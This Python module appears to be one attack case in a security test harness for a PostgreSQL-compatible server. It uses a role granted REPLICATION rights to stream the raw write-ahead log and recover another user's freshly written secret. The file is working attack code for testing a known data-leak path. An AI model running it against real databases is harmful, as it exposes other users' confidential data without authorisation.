"""Has the write-ahead log sent, in which every row stands."""

from attacks.frames import hear, query
from attacks.talking import Server
from raw_client import RawClient

WANTS = "read"
SETUP = "ALTER ROLE mallory REPLICATION"
SHOWS = "top-secret-47119"
FRESH = "UPDATE vlt_account SET secret = 'top-secret-47119' WHERE id = 1"


def attack(server: Server) -> bytes:
    with server.login(replication="true") as client:
        client.send(query(b"IDENTIFY_SYSTEM"))
        rows = [data for kind, data in client.replies() if kind == b"D"]
        if not rows:
            return b""
        place = _columns(rows[0])[2].decode()
        with server.connect("alice") as owner:
            owner.execute("BEGIN")
            owner.execute(FRESH.encode())
            owner.execute("COMMIT")
        return _streamed(client, place)


def _streamed(client: RawClient, place: str) -> bytes:
    client.socket.settimeout(1.0)
    client.send(query(f"START_REPLICATION PHYSICAL {place}".encode()))
    return hear(client, rounds=4, last=b"d")


def _columns(row: bytes) -> list[bytes]:
    found, at = [], 7
    while at < len(row):
        size = max(int.from_bytes(row[at : at + 4], "big", signed=True), 0)
        found.append(row[at + 4 : at + 4 + size])
        at += 4 + size
    return found
